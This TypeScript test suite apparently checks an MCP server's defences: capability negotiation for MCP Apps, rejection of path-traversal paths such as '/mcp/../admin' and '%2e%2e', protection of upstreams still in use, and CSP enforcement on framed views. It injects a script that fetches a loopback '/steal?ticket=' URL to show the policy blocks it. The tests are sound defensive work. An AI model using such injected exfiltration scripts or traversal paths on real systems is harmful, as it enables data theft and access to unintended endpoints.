import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../support/chromium';
import { FRAMING_HOST_PAGE, wrappedViewDocument, type DeclaredViewCsp } from '../support/app-host-page';
import { DESK_KEYS, startDeskHost, type DeskHost } from '../support/desk-host';
import { connectSdkV2, LEGACY, MODERN } from '../support/era-clients';
import { freePort } from '../support/free-port';

jest.setTimeout(60_000);

const UI = 'io.modelcontextprotocol/ui';
const ADMIN = { 'x-api-key': DESK_KEYS.admin, 'content-type': 'application/json' };

interface Problem {
  where: string;
  problem: string;
  fix: string;
}

// The page's global (FRAMING_HOST_PAGE), for the callbacks playwright runs there (the project has no DOM lib).
declare const window: { frameDocument(id: string, html: string): Promise<void> };

/**
 * Attacks on the desk's newest surfaces, each against the real desk (src/, API keys, virtual
 * servers on): a client that declares MCP Apps without the MIME types the extension requires, a
 * composed virtual server at a path that means another one, an upstream removed from under the
 * composed server that selects it, and a view's document carrying a script that tries to reach an
 * origin the view never declared — framed in chromium as hosts frame views, one that wraps the
 * document (its own policy then comes from `_meta.ui.csp` alone) and one that frames it as served.
 */
describe('attacks on views and composed servers', () => {
  let desk: DeskHost;
  let sink: Server;
  let sinkPort: number;
  /** What reached the sink from a view: the paths asked for. */
  const reached: string[] = [];
  let browser: Browser;
  let page: Page;

  const admin = (path: string, init: RequestInit = {}) =>
    fetch(`${desk.base}/admin/api/servers${path}`, { ...init, headers: ADMIN });
  const problemsOf = async (response: Response) => ((await response.json()) as { problems: Problem[] }).problems;
  const composedNames = async () =>
    ((await (await admin('/composed')).json()) as { servers: { name: string }[] }).servers.map(({ name }) => name);

  beforeAll(async () => {
    // A loopback server: the framing host's page, and the origin a view's script tries to reach.
    sink = createServer((req, res) => {
      if (req.url === '/host') return void res.writeHead(200, { 'content-type': 'text/html' }).end(FRAMING_HOST_PAGE);
      if (req.url?.startsWith('/steal')) reached.push(req.url);
      res.writeHead(204).end();
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    sinkPort = (sink.address() as AddressInfo).port;
    desk = await startDeskHost({ AUTH_MODE: 'apiKey', VIRTUAL_SERVERS_ALLOW_HOSTS: '127.0.0.1' });
    browser = await launchChromium();
    page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${sinkPort}/host`);
  });

  afterAll(async () => {
    await browser?.close();
    await desk?.close();
    await new Promise((resolve) => sink?.close(resolve));
  });

  describe.each([
    [LEGACY, 'legacy' as const],
    [MODERN, { pin: MODERN }],
  ])('a client that declares MCP Apps without mimeTypes (%s)', (_era, mode) => {
    it('is served as one that renders no views: no app-only tool listed, none callable', async () => {
      const { client } = await connectSdkV2(desk.url, 'bare-ui', mode, {
        headers: { 'x-api-key': DESK_KEYS.admin },
        extensions: { [UI]: {} },
      });
      try {
        const names = (await client.listTools()).tools.map((tool) => tool.name);
        expect(names).toContain('get_ticket');
        expect(names).not.toContain('ticket_customer');
        await expect(client.callTool({ name: 'ticket_customer', arguments: { ticketId: 'T-2001' } })).rejects.toThrow(
          /Unknown tool: ticket_customer/,
        );
      } finally {
        await client.close();
      }
    });
  });

  const FIELD = 'servers[1].path';
  it.each([
    ['/mcp/../admin', 'has a "." or ".." segment: a client or proxy that resolves it reaches another path'],
    ['/mcp/./readonly2', 'has a "." or ".." segment: a client or proxy that resolves it reaches another path'],
    [
      '/mcp/%2e%2e/admin',
      'must be a path of letters, digits, . _ ~ - segments (nothing percent-encoded, no empty segment)',
    ],
    ['/mcp/a%2Fb', 'must be a path of letters, digits, . _ ~ - segments (nothing percent-encoded, no empty segment)'],
    ['/mcp//admin', 'must be a path of letters, digits, . _ ~ - segments (nothing percent-encoded, no empty segment)'],
    ['/mcp/ReadOnly', 'is taken by another server'],
  ])('refuses a composed server at %s with a 422 naming the field, and stores nothing', async (path, problem) => {
    const response = await admin('/composed', {
      method: 'POST',
      body: JSON.stringify({ name: 'shadow', path, select: [{ from: 'local', entries: ['get_ticket'] }] }),
    });
    expect(response.status).toBe(422);
    const [refusal, ...others] = await problemsOf(response);
    expect(others).toEqual([]);
    expect(refusal.where).toBe(FIELD);
    expect(refusal.problem).toContain(problem);
    expect(refusal.fix).toMatch(/e\.g\. "\/mcp\/finance"|give each server a path of its own/);
    expect(await composedNames()).toEqual(['desk-readonly']);
  });

  it('refuses to remove an upstream a composed server selects, naming the server and what to do', async () => {
    // An upstream nothing answers at: stored all the same (it is connected to when it can be).
    const upstream = { name: 'crm', transport: { type: 'http', url: `http://127.0.0.1:${await freePort()}/mcp` } };
    expect((await admin('/upstreams', { method: 'POST', body: JSON.stringify(upstream) })).status).toBe(200);
    const finance = {
      name: 'finance',
      path: '/mcp/finance',
      select: [{ from: 'local' }, { from: 'upstream', name: 'crm' }],
    };
    expect((await admin('/composed', { method: 'POST', body: JSON.stringify(finance) })).status).toBe(200);

    const removal = await admin('/upstreams/crm', { method: 'DELETE' });
    expect(removal.status).toBe(422);
    expect(await problemsOf(removal)).toEqual([
      {
        where: 'upstream "crm"',
        problem:
          'is selected by the composed server "finance" (servers[1].select[1]), so it stays while that server selects it',
        fix: 'remove that selection from "finance" first (POST …/api/servers/composed with the server without it), or remove the server (DELETE …/api/servers/composed/finance)',
      },
    ]);
    const { upstreams } = (await (await admin('/document')).json()) as { upstreams: { name: string }[] };
    expect(upstreams.map(({ name }) => name)).toEqual(['crm']);
    // Once the server no longer selects it, it goes.
    expect((await admin('/composed/finance', { method: 'DELETE' })).status).toBe(200);
    expect((await admin('/upstreams/crm', { method: 'DELETE' })).status).toBe(200);
  });

  describe("a view's document carrying a script that reaches for an origin it never declared", () => {
    let declared: DeclaredViewCsp | undefined;
    let html: string;
    const steal = () => `http://localhost:${sinkPort}/steal`;
    /** What a template could be made to put into the page: a script that reports and sends. */
    const injected = () => `<script>
      const root = document.documentElement;
      root.dataset.ran = 'yes';
      addEventListener('securitypolicyviolation', (event) => {
        if (event.blockedURI.includes('/steal')) root.dataset.violated = event.violatedDirective;
      });
      fetch('${steal()}?ticket=T-2001', { mode: 'no-cors' }).then(
        () => (root.dataset.fetch = 'sent'),
        () => (root.dataset.fetch = 'blocked'),
      );
    </script>`;
    const frame = async (id: string, document: string) => {
      await page.evaluate(([frameId, text]) => window.frameDocument(frameId, text), [id, document] as const);
      return page.frameLocator(`#${id}`).locator('html');
    };

    beforeAll(async () => {
      const { client } = await connectSdkV2(desk.url, 'views', 'legacy', {
        headers: { 'x-api-key': DESK_KEYS.admin },
        extensions: { [UI]: { mimeTypes: ['text/html;profile=mcp-app'] } },
      });
      try {
        const [contents] = (await client.readResource({ uri: 'ui://desk/ticket-card' })).contents as unknown as [
          { text: string; _meta?: { ui?: { csp?: DeclaredViewCsp } } },
        ];
        declared = contents._meta?.ui?.csp;
        html = contents.text.replace('</body>', `${injected()}</body>`);
      } finally {
        await client.close();
      }
    });

    it('declares its policy in _meta.ui.csp, which a host that wraps the document enforces: the request is blocked', async () => {
      expect(declared).toEqual({ connectDomains: [], resourceDomains: [], frameDomains: [], baseUriDomains: [] });
      const root = await frame('wrapped', wrappedViewDocument(html, declared));
      await page.frameLocator('#wrapped').locator('html[data-fetch]').waitFor({ state: 'attached' });
      // The script ran (the wrapping host allows inline scripts): only the declared policy stopped it.
      expect(await root.getAttribute('data-ran')).toBe('yes');
      expect(await root.getAttribute('data-fetch')).toBe('blocked');
      expect(await root.getAttribute('data-violated')).toBe('connect-src');
      expect(reached).toEqual([]);
    });

    it("keeps the document's own policy as a second line: framed as served, the script does not run at all", async () => {
      const root = await frame('as-served', html);
      expect(await root.getAttribute('data-ran')).toBeNull();
      expect(reached).toEqual([]);
    });

    it('is reached by the same script in the same host when the view declares no policy (what the declaration prevents)', async () => {
      const root = await frame('undeclared', wrappedViewDocument(html, undefined));
      await page.frameLocator('#undeclared').locator('html[data-fetch]').waitFor({ state: 'attached' });
      expect(await root.getAttribute('data-fetch')).toBe('sent');
      expect(reached).toEqual(['/steal?ticket=T-2001']);
    });
  });
});
